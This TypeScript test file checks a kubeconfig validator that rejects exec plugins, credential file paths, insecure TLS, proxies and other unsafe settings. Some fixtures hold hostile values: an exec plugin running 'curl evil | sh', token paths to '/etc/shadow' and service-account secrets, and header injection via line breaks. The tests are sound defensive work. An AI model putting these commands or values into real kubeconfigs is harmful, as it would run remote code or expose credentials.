import { describe, expect, it } from 'vitest';
import { parse, stringify } from 'yaml';
import {
  KubeconfigPolicyError,
  toKubeconfigYaml,
  validateKubeconfig,
} from '../../src/kube/kubeconfig-policy.ts';

const b64 = (text: string) => Buffer.from(text).toString('base64');
const CA = b64('-----BEGIN CERTIFICATE-----\nMIIBfakeCA\n-----END CERTIFICATE-----\n');
const CERT = b64('-----BEGIN CERTIFICATE-----\nMIIBfakeCLIENT\n-----END CERTIFICATE-----\n');
const KEY_SECRET = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7';
const KEY = b64(`-----BEGIN PRIVATE KEY-----\n${KEY_SECRET}\n-----END PRIVATE KEY-----\n`);
const TOKEN = 'sha256~S3cr3tT0kenValue-do-not-leak';
const SECRETS = [TOKEN, KEY, KEY_SECRET, 'hunter2'];

// biome-ignore lint/suspicious/noExplicitAny: fixtures patch arbitrary (also invalid) kubeconfig shapes
type Config = Record<string, any>;

function kubeconfig(patch: (config: Config) => void = () => {}): string {
  const config: Config = {
    apiVersion: 'v1',
    kind: 'Config',
    clusters: [
      { name: 'prod', cluster: { server: 'https://k8s.example.com:6443', 'certificate-authority-data': CA } },
    ],
    users: [{ name: 'batch', user: { token: TOKEN } }],
    contexts: [{ name: 'prod-batch', context: { cluster: 'prod', user: 'batch', namespace: 'jobs' } }],
    'current-context': 'prod-batch',
  };
  patch(config);
  return stringify(config);
}

function rejection(yamlText: string, options = {}): KubeconfigPolicyError {
  try {
    validateKubeconfig(yamlText, options);
  } catch (error) {
    expect(error).toBeInstanceOf(KubeconfigPolicyError);
    const message = (error as Error).message;
    for (const secret of SECRETS) expect(message).not.toContain(secret);
    return error as KubeconfigPolicyError;
  }
  throw new Error('the kubeconfig was accepted');
}

describe('validateKubeconfig', () => {
  it('accepts a token kubeconfig and normalizes it', () => {
    expect(validateKubeconfig(kubeconfig())).toEqual({
      server: 'https://k8s.example.com:6443',
      caData: CA,
      auth: { token: TOKEN },
      contextName: 'prod-batch',
      clusterName: 'prod',
      userName: 'batch',
      namespace: 'jobs',
    });
  });

  it('accepts inline client certificate and key data', () => {
    const config = validateKubeconfig(
      kubeconfig((c) => {
        c.users[0].user = { 'client-certificate-data': CERT, 'client-key-data': KEY };
      }),
    );
    expect(config.auth).toEqual({ clientCertData: CERT, clientKeyData: KEY });
  });

  it('uses the only context when current-context is absent', () => {
    const config = validateKubeconfig(
      kubeconfig((c) => {
        delete c['current-context'];
      }),
    );
    expect(config.contextName).toBe('prod-batch');
  });

  it('picks the current context among several', () => {
    const config = validateKubeconfig(
      kubeconfig((c) => {
        c.clusters.push({
          name: 'dev',
          cluster: { server: 'https://dev.example.com', 'certificate-authority-data': CA },
        });
        c.contexts.push({ name: 'dev', context: { cluster: 'dev', user: 'batch' } });
        c['current-context'] = 'dev';
      }),
    );
    expect(config).toMatchObject({ server: 'https://dev.example.com', contextName: 'dev' });
    expect(config.namespace).toBeUndefined();
  });

  it('round-trips through the minimal stored form', () => {
    const normalized = validateKubeconfig(kubeconfig());
    expect(validateKubeconfig(toKubeconfigYaml(normalized))).toEqual(normalized);
  });

  const rejected: Array<[string, (c: Config) => void, string | RegExp]> = [
    [
      'an exec credential plugin',
      (c) => {
        c.users[0].user = { exec: { command: 'sh', args: ['-c', 'curl evil | sh'] } };
      },
      'users[0].user.exec is not allowed',
    ],
    [
      'an exec plugin in a user that is not selected',
      (c) => {
        c.users.push({ name: 'other', user: { exec: { command: 'sh' } } });
      },
      'users[1].user.exec is not allowed',
    ],
    [
      'an auth-provider',
      (c) => {
        c.users[0].user = { 'auth-provider': { name: 'gcp' } };
      },
      'users[0].user.auth-provider is not allowed',
    ],
    [
      'a certificate-authority file path',
      (c) => {
        c.clusters[0].cluster['certificate-authority'] = '/etc/ssl/ca.pem';
      },
      'clusters[0].cluster.certificate-authority is not allowed',
    ],
    [
      'a client-certificate file path',
      (c) => {
        c.users[0].user = { 'client-certificate': '/tmp/c.pem', 'client-key-data': KEY };
      },
      'users[0].user.client-certificate is not allowed',
    ],
    [
      'a client-key file path',
      (c) => {
        c.users[0].user = { 'client-certificate-data': CERT, 'client-key': '/tmp/k.pem' };
      },
      'users[0].user.client-key is not allowed',
    ],
    [
      'a tokenFile path',
      (c) => {
        c.users[0].user = { tokenFile: '/var/run/secrets/token' };
      },
      'users[0].user.tokenFile is not allowed',
    ],
    [
      'a token-file path',
      (c) => {
        c.users[0].user = { 'token-file': '/var/run/secrets/token' };
      },
      'users[0].user.token-file is not allowed',
    ],
    [
      'insecure-skip-tls-verify',
      (c) => {
        c.clusters[0].cluster['insecure-skip-tls-verify'] = true;
      },
      'clusters[0].cluster.insecure-skip-tls-verify is not allowed',
    ],
    [
      'a proxy-url',
      (c) => {
        c.clusters[0].cluster['proxy-url'] = 'http://proxy:3128';
      },
      'clusters[0].cluster.proxy-url is not allowed',
    ],
    [
      'an http:// server',
      (c) => {
        c.clusters[0].cluster.server = 'http://k8s.example.com';
      },
      'clusters[0].cluster.server must be an https:// URL',
    ],
    [
      'user information in the server URL',
      (c) => {
        c.clusters[0].cluster.server = 'https://admin:hunter2@k8s.example.com';
      },
      'clusters[0].cluster.server must not contain user information',
    ],
    [
      'a server that is not a URL',
      (c) => {
        c.clusters[0].cluster.server = 'hunter2';
      },
      'clusters[0].cluster.server is not a valid URL',
    ],
    [
      'missing CA data',
      (c) => {
        delete c.clusters[0].cluster['certificate-authority-data'];
      },
      'clusters[0].cluster.certificate-authority-data is required',
    ],
    [
      'CA data that is not a PEM certificate',
      (c) => {
        c.clusters[0].cluster['certificate-authority-data'] = b64('hunter2');
      },
      'clusters[0].cluster.certificate-authority-data does not contain the expected PEM block',
    ],
    [
      'missing credentials',
      (c) => {
        c.users[0].user = {};
      },
      /^users\[0\]\.user has no credentials/,
    ],
    [
      'a certificate without its key',
      (c) => {
        c.users[0].user = { 'client-certificate-data': CERT };
      },
      'users[0].user.client-key-data is required',
    ],
    [
      'basic authentication',
      (c) => {
        c.users[0].user = { username: 'admin', password: 'hunter2' };
      },
      'users[0].user.username is not allowed',
    ],
    [
      'a token with a line break',
      (c) => {
        c.users[0].user.token = `${TOKEN}\nX-Injected: 1`;
      },
      'users[0].user.token must be a non-empty token without spaces or line breaks',
    ],
    [
      'several contexts without current-context',
      (c) => {
        delete c['current-context'];
        c.contexts.push({ name: 'other', context: { cluster: 'prod', user: 'batch' } });
      },
      'current-context is required when the kubeconfig has several contexts',
    ],
    [
      'a current-context that does not exist',
      (c) => {
        c['current-context'] = 'nope';
      },
      'current-context names a context that does not exist',
    ],
    [
      'a context pointing at a missing user',
      (c) => {
        c.contexts[0].context.user = 'ghost';
      },
      'users has no entry for the user of context "prod-batch"',
    ],
    [
      'an exec plugin hidden in the extensions of a user',
      (c) => {
        c.users[0].user.extensions = [{ name: 'x', extension: { exec: { command: 'sh' } } }];
      },
      'users[0].user.extensions[0].extension.exec is not allowed',
    ],
    [
      'an exec plugin hidden in the preferences',
      (c) => {
        c.preferences = { extensions: [{ name: 'x', extension: { exec: { command: 'sh' } } }] };
      },
      'preferences.extensions[0].extension.exec is not allowed',
    ],
    [
      'a token file hidden in the top-level extensions',
      (c) => {
        c.extensions = [{ name: 'x', extension: { tokenFile: '/etc/shadow' } }];
      },
      'extensions[0].extension.tokenFile is not allowed',
    ],
    [
      'insecure-skip-tls-verify written as the string "true"',
      (c) => {
        c.clusters[0].cluster['insecure-skip-tls-verify'] = 'true';
      },
      'clusters[0].cluster.insecure-skip-tls-verify must be true or false',
    ],
    [
      'a server URL with a line break',
      (c) => {
        c.clusters[0].cluster.server = 'https://k8s.example.com:6443/\nX-Injected: 1';
      },
      'clusters[0].cluster.server must not contain spaces or control characters',
    ],
    [
      'a server URL with a tab',
      (c) => {
        c.clusters[0].cluster.server = 'https://k8s.example\t.com';
      },
      'clusters[0].cluster.server must not contain spaces or control characters',
    ],
    [
      'an unknown user field',
      (c) => {
        c.users[0].user.impersonate = 'root';
      },
      'users[0].user.impersonate is not supported',
    ],
  ];

  it.each(rejected)('rejects %s, naming the field', (_what, patch, message) => {
    const error = rejection(kubeconfig(patch));
    expect(error.field).toBeDefined();
    if (typeof message === 'string') expect(error.message).toBe(message);
    else expect(error.message).toMatch(message);
  });

  it('refuses insecure-skip-tls-verify: yes (a string in YAML 1.2) even with allowUnsafe', () => {
    const text = kubeconfig().replace(
      'certificate-authority-data:',
      'insecure-skip-tls-verify: yes\n      certificate-authority-data:',
    );
    expect(text).toContain('insecure-skip-tls-verify: yes');
    for (const options of [{}, { allowUnsafe: true }]) {
      expect(rejection(text, options).message).toBe(
        'clusters[0].cluster.insecure-skip-tls-verify must be true or false',
      );
    }
  });

  it('stores the server URL as parsed, not as typed', () => {
    const serverOf = (server: string) =>
      validateKubeconfig(
        kubeconfig((c) => {
          c.clusters[0].cluster.server = server;
        }),
      ).server;
    expect(serverOf('https:\\\\k8s.example.com')).toBe('https://k8s.example.com');
    expect(serverOf('HTTPS://K8S.Example.COM:443/')).toBe('https://k8s.example.com');
    expect(serverOf('https://k8s.example.com:6443/k8s/clusters/c-1/')).toBe(
      'https://k8s.example.com:6443/k8s/clusters/c-1',
    );
    expect(serverOf('https://bücher.example')).toBe('https://xn--bcher-kva.example');
    expect(
      rejection(kubeconfig((c) => (c.clusters[0].cluster.server = 'https://k8s.example.com/?'))).message,
    ).toBe('clusters[0].cluster.server must not contain a query or fragment');
  });

  it('accepts http, insecure-skip-tls-verify and no CA only with allowUnsafe, never exec', () => {
    const unsafe = kubeconfig((c) => {
      c.clusters[0].cluster = { server: 'http://127.0.0.1:8080', 'insecure-skip-tls-verify': true };
    });
    rejection(unsafe);
    expect(validateKubeconfig(unsafe, { allowUnsafe: true })).toMatchObject({
      server: 'http://127.0.0.1:8080',
      insecureSkipTlsVerify: true,
    });
    const withExec = kubeconfig((c) => {
      c.users[0].user = { exec: { command: 'sh' } };
    });
    expect(rejection(withExec, { allowUnsafe: true }).message).toBe('users[0].user.exec is not allowed');
  });

  it('reports a YAML syntax error by position without echoing the source line', () => {
    const broken = `users:\n- name: a\n  user:\n    token: ${TOKEN}\n   bad: [\n`;
    const error = rejection(broken);
    expect(error.message).toMatch(/^kubeconfig is not valid YAML \(\w+ at line \d+, column \d+\)$/);
  });

  it('rejects empty input and non-mapping documents', () => {
    expect(rejection('').message).toBe('kubeconfig is empty');
    expect(rejection(`- ${TOKEN}`).message).toBe('kubeconfig must be a YAML mapping');
  });

  it('keeps parsed structure unchanged for the caller', () => {
    const text = kubeconfig();
    validateKubeconfig(text);
    expect(parse(text).users[0].user.token).toBe(TOKEN);
  });
});
